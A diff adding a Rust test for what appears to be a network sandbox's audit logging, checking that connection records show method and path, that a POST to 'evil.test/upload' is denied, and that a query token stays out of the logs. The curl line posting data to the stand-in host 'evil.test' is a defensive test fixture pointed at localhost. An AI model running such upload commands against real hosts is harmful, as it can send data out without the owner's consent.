@@ -641,6 +641,91 @@ fn audit_dir_outside_home_is_hidden_too() {
     assert!(of(&records(&dir), "exec").len() == 1);
 }
 
+/// Plain-HTTP connection records name the request's method and path, never its query; a
+/// tunnel's record has neither.
+#[test]
+fn connection_events_carry_method_and_path() {
+    use std::net::TcpListener;
+    let c = Case::new(Who::Invoker, false);
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for s in l.incoming() {
+            let Ok(mut s) = s else { continue };
+            let mut buf = [0u8; 4096];
+            let _ = std::io::Read::read(&mut s, &mut buf);
+            let _ = s.write_all(
+                b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n",
+            );
+        }
+    });
+    let netlog = c.ws.join("out/net.jsonl");
+    let o = c.cordon(&[
+        "run",
+        &format!("--allow-domain=api.test:{port}"),
+        "--resolve=api.test:127.0.0.1",
+        "--allow-local",
+        &format!("--net-log={}", netlog.display()),
+        "--",
+        "sh",
+        "-c",
+        &format!(
+            "curl -sS 'http://api.test:{port}/pkg/left-pad?token=s3cret'; \
+             curl -sS -X POST -d x http://evil.test:{port}/upload; \
+             curl -sS --proxytunnel http://api.test:{port}/tunnelled; echo done"
+        ),
+    ]);
+    assert!(text(&o).contains("done"), "{}", text(&o));
+    let recs = records(&c.audit_dir());
+    let conns = of(&recs, "connection");
+    assert_eq!(conns.len(), 3, "{conns:?}");
+    let get = conns.iter().find(|r| r["method"] == "GET").unwrap();
+    assert_eq!(
+        (
+            &get["decision"],
+            &get["host"],
+            &get["path"],
+            &get["protocol"]
+        ),
+        (
+            &serde_json::json!("allow"),
+            &serde_json::json!("api.test"),
+            &serde_json::json!("/pkg/left-pad"),
+            &serde_json::json!("http")
+        )
+    );
+    let post = conns.iter().find(|r| r["method"] == "POST").unwrap();
+    assert_eq!(
+        (&post["decision"], &post["host"], &post["path"]),
+        (
+            &serde_json::json!("deny"),
+            &serde_json::json!("evil.test"),
+            &serde_json::json!("/upload")
+        )
+    );
+    let tunnel = conns.iter().find(|r| r["protocol"] == "connect").unwrap();
+    assert_eq!(tunnel["decision"], "allow");
+    assert!(
+        tunnel.get("method").is_none() && tunnel.get("path").is_none(),
+        "{tunnel}"
+    );
+    // The query (a token here) is in no connection record (the exec record has the command).
+    let nl = std::fs::read_to_string(&netlog).unwrap();
+    assert_eq!(nl.lines().count(), 3, "{nl}");
+    assert!(!nl.contains("s3cret"), "{nl}");
+    let conns = serde_json::to_string(&conns).unwrap();
+    assert!(!conns.contains("s3cret"), "{conns}");
+    // `audit show` names the request.
+    let o = audit(&c, &["show", "--event", "connection"]);
+    let shown = text(&o);
+    assert!(
+        shown.contains(&format!("allow http api.test:{port} GET /pkg/left-pad up="))
+            && shown.contains(&format!("deny http evil.test:{port} POST /upload up="))
+            && shown.contains(&format!("allow connect api.test:{port} up=")),
+        "{shown}"
+    );
+}
+
 #[test]
 fn net_log_and_connection_events() {
     use std::net::TcpListener;
